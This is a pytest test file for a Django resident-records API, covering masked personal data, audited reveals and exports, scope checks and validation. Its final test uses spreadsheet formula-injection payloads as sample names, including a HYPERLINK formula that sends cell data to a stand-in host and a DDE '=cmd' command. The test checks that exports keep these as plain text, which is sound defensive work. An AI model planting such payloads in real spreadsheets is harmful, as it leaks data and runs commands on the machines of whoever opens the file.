"""The people API beyond scope: reveal, export, lookup, bad input, query counts."""

from __future__ import annotations

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from jishiyu.audit.models import AuditEntry
from jishiyu.core.scope import path_in_scope
from jishiyu.core.testing import make_id_number
from jishiyu.people.models import Person
from jishiyu.people.tests.factories import build_people, make_person

API = "/api/v1/people"


@pytest.fixture
def data(tree, personas):
    return build_people(tree, personas)


def post(client, url, body, **extra):
    return client.post(url, body, content_type="application/json", **extra)


def test_list_items_carry_masked_values_tags_and_region_only(client, personas, data):
    client.force_login(personas["community_worker"])
    item = next(i for i in client.get(API).json()["items"] if i["id"] == data.people["grid"].pk)
    assert item["document_masked"] == data.people["grid"].document_masked
    assert item["phone_masked"].count("*") == 4
    assert item["region"]["name"] == "翠竹园第一网格"
    assert [t["tag"] for t in item["tags"]] == ["elderly_alone"] or item["tags"] == []
    body = str(item)
    assert data.number("grid") not in body and data.phone("grid") not in body


def test_the_list_filters_by_name_tag_region_and_account(client, personas, data, tree):
    client.force_login(personas["district_admin"])

    def ids(query):
        return {i["id"] for i in client.get(f"{API}?{query}").json()["items"]}

    assert ids("name=grid2") == data.ids("grid2")
    assert ids(f"region={tree.street.pk}") == data.ids("grid_own", "grid", "grid2", "community", "sibling")
    assert ids("has_account=true") == data.ids("grid_own", "outsider_own")
    assert ids("tag=elderly_alone") == data.ids("grid_own", "grid2", "sibling", "outsider_own")
    assert ids(f"household={data.households['other'].pk}") == data.ids("other")


def test_the_list_pages_with_count_and_next(client, personas, data):
    client.force_login(personas["district_admin"])
    body = client.get(f"{API}?page_size=3").json()
    assert body["count"] == 7 and len(body["items"]) == 3 and "page=2" in body["next"]


def test_the_list_runs_a_bounded_number_of_queries(client, personas, data, tree, django_assert_max_num_queries):
    for i in range(30):
        make_person(f"加{i}", tree.grid2, seq=100 + i, tags=("disabled", "subsistence"))
    client.force_login(personas["district_admin"])
    client.get(API)  # warm the session
    # session, user, role assignments, session touch (3), count, people, tags: not one per person
    with django_assert_max_num_queries(9):
        response = client.get(f"{API}?page_size=50")
    assert len(response.json()["items"]) == 37


def test_revealing_returns_the_value_uncached_and_audits_it_masked(client, personas, data):
    client.force_login(personas["community_worker"])
    number = data.number("grid")
    response = post(
        client, f"{API}/{data.people['grid'].pk}/reveal", {"field": "document_number", "reason": "核实低保"}
    )
    assert response.json() == {"value": number}
    assert "no-store" in response["Cache-Control"]
    entry = AuditEntry.objects.get(action="reveal")
    assert entry.reason == "核实低保" and entry.object_id == str(data.people["grid"].pk)
    assert number not in str(entry.changes) and number not in entry.object_label


def test_revealing_without_a_reason_is_refused_and_not_audited(client, personas, data):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/{data.people['grid'].pk}/reveal", {"field": "phone", "reason": ""})
    assert response.status_code == 400
    assert "reason" in response.json()["errors"]
    assert not AuditEntry.objects.filter(action="reveal").exists()


def test_a_grid_worker_may_not_reveal_a_visible_person(client, personas, data):
    client.force_login(personas["grid_worker"])
    response = post(client, f"{API}/{data.people['grid'].pk}/reveal", {"field": "phone", "reason": "核实身份"})
    assert response.status_code == 403


def test_a_grid_worker_gets_404_revealing_an_invisible_person(client, personas, data):
    client.force_login(personas["grid_worker"])
    response = post(client, f"{API}/{data.people['grid2'].pk}/reveal", {"field": "phone", "reason": "核实身份"})
    assert response.status_code == 404


def test_lookup_by_document_number_goes_in_the_body(client, personas, data):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/lookup", {"document_number": data.number("grid2")})
    assert response.status_code == 200 and response.json()["id"] == data.people["grid2"].pk


def test_lookup_by_get_is_not_offered(client, personas, data):
    client.force_login(personas["community_worker"])
    assert client.get(f"{API}/lookup?phone={data.phone('grid')}").status_code == 405


def test_lookup_of_another_communitys_person_answers_404(client, personas, data):
    client.force_login(personas["community_worker"])
    assert post(client, f"{API}/lookup", {"document_number": data.number("other")}).status_code == 404


def test_a_sensitive_export_needs_the_reveal_permission(client, personas, data):
    client.force_login(personas["social_worker"])
    response = post(client, f"{API}/export", {"include_sensitive": True, "reason": "走访名单"})
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="export").exists()


def test_a_sensitive_export_needs_a_reason(client, personas, data):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/export", {"include_sensitive": True, "reason": " "})
    assert response.status_code == 400 and "reason" in response.json()["errors"]


def _cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_a_sensitive_export_with_permission_and_reason_holds_plain_values_and_is_audited(client, personas, data):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/export", {"include_sensitive": True, "reason": "民政走访名单", "name": "grid2"})
    rows = _cells(response)
    assert len(rows) == 2 and data.number("grid2") in rows[1] and data.phone("grid2") in rows[1]
    entry = AuditEntry.objects.get(action="export")
    assert entry.changes == {"filters": {"name": "grid2"}, "count": 1, "sensitive": True}
    assert entry.reason == "民政走访名单"
    assert data.number("grid2") not in str(entry.changes)


def test_a_plain_export_is_masked_and_still_audited(client, personas, data):
    client.force_login(personas["social_worker"])
    rows = _cells(post(client, f"{API}/export", {"name": "grid2"}))
    assert data.people["grid2"].document_masked in rows[1] and data.number("grid2") not in rows[1]
    assert AuditEntry.objects.get(action="export").changes["sensitive"] is False


def test_a_wrong_check_digit_answers_422_with_a_chinese_field_message(client, personas, tree):
    client.force_login(personas["community_worker"])
    number = make_id_number(seq=9)
    wrong = number[:-1] + ("0" if number[-1] != "0" else "1")
    response = post(client, API, {"name": "张三", "document_number": wrong, "region_id": tree.grid.pk})
    assert response.status_code == 422
    assert response["Content-Type"] == "application/problem+json"
    assert "校验" in response.json()["errors"]["document_number"][0]
    assert not Person.objects.exists()


def test_a_wrong_check_digit_answers_in_english_when_asked(client, personas, tree):
    client.force_login(personas["community_worker"])
    number = make_id_number(seq=9)
    wrong = number[:-1] + ("0" if number[-1] != "0" else "1")
    response = post(
        client,
        API,
        {"name": "Zhang", "document_number": wrong, "region_id": tree.grid.pk},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 422
    assert response.json()["errors"]["document_number"] == [
        "The id number's check digit is wrong: please check every digit."
    ]


def test_creating_a_person_answers_201_with_masked_values(client, personas, tree):
    client.force_login(personas["community_worker"])
    number = make_id_number(seq=21)
    response = post(
        client,
        API,
        {
            "name": "李四",
            "document_number": number,
            "phone": "13912340000",
            "region_id": tree.grid.pk,
            "tags": ["disabled"],
        },
    )
    assert response.status_code == 201, response.content
    assert response.json()["document_masked"] == f"{number[:4]}**********{number[-4:]}"
    assert response.json()["phone_masked"] == "139****0000"
    assert AuditEntry.objects.filter(action="create", object_id=str(response.json()["id"])).exists()


def test_creating_in_an_unknown_region_names_the_field(client, personas, tree):
    client.force_login(personas["community_worker"])
    response = post(client, API, {"name": "李四", "region_id": 999999})
    assert response.status_code == 422 and "region_id" in response.json()["errors"]


def test_a_malformed_body_is_a_422_not_a_500(client, personas, tree):
    client.force_login(personas["community_worker"])
    response = client.post(API, "{not json", content_type="application/json")
    assert response.status_code in (400, 422)


def test_updating_the_phone_stores_it_masked(client, personas, data):
    client.force_login(personas["community_worker"])
    response = client.patch(
        f"{API}/{data.people['grid'].pk}", {"phone": "13700001111"}, content_type="application/json"
    )
    assert response.status_code == 200 and response.json()["phone_masked"] == "137****1111"
    entry = AuditEntry.objects.get(action="update", object_type="people.person", object_id=str(data.people["grid"].pk))
    assert entry.changes["phone"]["after"] == "137****1111"
    assert "13700001111" not in str(list(AuditEntry.objects.values()))


def test_a_worker_verifies_a_signed_up_account_whose_phone_matches(client, personas, tree):
    person = make_person("王五", tree.grid, seq=50, phone=personas["outsider"].phone)
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/{person.pk}/verify", {"user_id": personas["outsider"].pk})
    assert response.status_code == 200 and response.json()["has_account"] is True
    assert response.json()["verified_at"]


def test_verifying_an_account_with_another_phone_is_refused(client, personas, tree):
    person = make_person("王五", tree.grid, seq=50)
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/{person.pk}/verify", {"user_id": personas["outsider"].pk})
    assert response.status_code == 400 and "user" in response.json()["errors"]


def test_naming_a_new_representative_replaces_the_old_one(client, personas, data, tree):
    dwelling = data.dwellings["grid"]
    other = make_person("共有人", tree.grid, seq=60)
    client.force_login(personas["community_worker"])
    half = post(client, f"{API}/{data.people['grid'].pk}/ownerships", {"dwelling_id": dwelling.pk, "share": "0.5"})
    assert half.status_code == 201
    added = post(client, f"{API}/{other.pk}/ownerships", {"dwelling_id": dwelling.pk, "share": "0.5"})
    assert added.status_code == 201 and added.json()["representative"] is False
    response = post(client, f"{API}/ownerships/{added.json()['id']}/representative", {})
    assert response.json()["representative"] is True
    owners = client.get(f"{API}/dwellings/{dwelling.pk}/ownerships").json()
    assert [o["person_id"] for o in owners if o["representative"]] == [other.pk]


def test_shares_above_one_are_refused_on_the_share_field(client, personas, data, tree):
    other = make_person("共有人", tree.grid, seq=60)
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/{other.pk}/ownerships", {"dwelling_id": data.dwellings["grid"].pk, "share": "0.5"})
    assert response.status_code == 400 and "share" in response.json()["errors"]


def test_creating_a_household_in_scope(client, personas, tree):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/households", {"region_id": tree.grid.pk, "number": "H-1"})
    assert response.status_code == 201 and response.json()["region"]["id"] == tree.grid.pk


def test_creating_a_household_in_another_community_is_refused(client, personas, tree):
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/households", {"region_id": tree.other_grid.pk, "number": "H-1"})
    assert response.status_code == 400 and "region" in response.json()["errors"]


def test_the_export_is_read_in_chunks_and_every_cell_matches_the_records(
    client, personas, data, monkeypatch, django_assert_max_num_queries
):
    from jishiyu.people import services as people_services

    monkeypatch.setattr(people_services, "EXPORT_CHUNK", 2)  # the community's people span several chunks
    Person.objects.filter(pk=data.people["grid"].pk).update(gender="f", verified_at=timezone.now())
    client.force_login(personas["community_worker"])
    with django_assert_max_num_queries(40):
        response = post(client, f"{API}/export", {"include_sensitive": True, "reason": "民政走访名单"})
    rows = _cells(response)
    expected = []
    for p in Person.objects.filter(pk__in=[p.pk for p in data.people.values()]).order_by("name", "pk"):
        if not path_in_scope(p.region.path, personas["community_worker"].region_paths_for("people.export")):
            continue
        expected.append(
            [
                p.name,
                p.get_gender_display() if p.gender else None,
                p.birth_date.isoformat() if p.birth_date else None,
                p.get_document_type_display(),
                p._document_plain() or None,
                p._phone_plain() or None,
                p.region.name,
                str(p.household) if p.household_id else None,
                "、".join(str(t.get_tag_display()) for t in p.tags.order_by("tag")) or None,
                "是" if p.verified_at else "否",
            ]
        )
    assert len(expected) >= 4  # more than one chunk of 2
    assert rows[1:] == expected
    assert AuditEntry.objects.get(action="export").changes["count"] == len(expected)


def test_a_sensitive_export_is_in_the_clear_only_where_the_actor_may_reveal(client, tree, data):
    from jishiyu.accounts.models import RoleAssignment, User

    # exports for the whole street, reveals only in their own community
    user = User.objects.create_user(phone="13800009901", password="Jishiyu@2024x", name="街道社工")
    RoleAssignment.objects.create(user=user, role="social_worker", region=tree.street)
    RoleAssignment.objects.create(user=user, role="community_worker", region=tree.community)
    client.force_login(user)
    rows = _cells(post(client, f"{API}/export", {"include_sensitive": True, "reason": "民政走访名单"}))
    by_name = {row[0]: row for row in rows[1:]}
    own, sibling = data.people["community"], data.people["sibling"]
    assert by_name[own.name][4] == data.number("community") and by_name[own.name][5] == data.phone("community")
    assert by_name[sibling.name][4] == sibling.document_masked and by_name[sibling.name][5] == sibling.phone_masked
    assert data.number("sibling") not in str(rows)
    assert data.people["other"].name not in by_name  # another street: not exported at all


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1+1"]
)
def test_an_exported_name_that_looks_like_a_formula_stays_text(client, personas, tree, name):
    """公式注入: a name imported from a .csv must not come out of the export as a live formula."""
    make_person(name, tree.grid, seq=77)
    client.force_login(personas["community_worker"])
    response = post(client, f"{API}/export", {})
    sheet = load_workbook(io.BytesIO(response.content)).active
    found = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and name in c.value]
    assert found, "the person is in the export"
    for cell in found:
        assert cell.data_type == "s" and cell.value == "'" + name
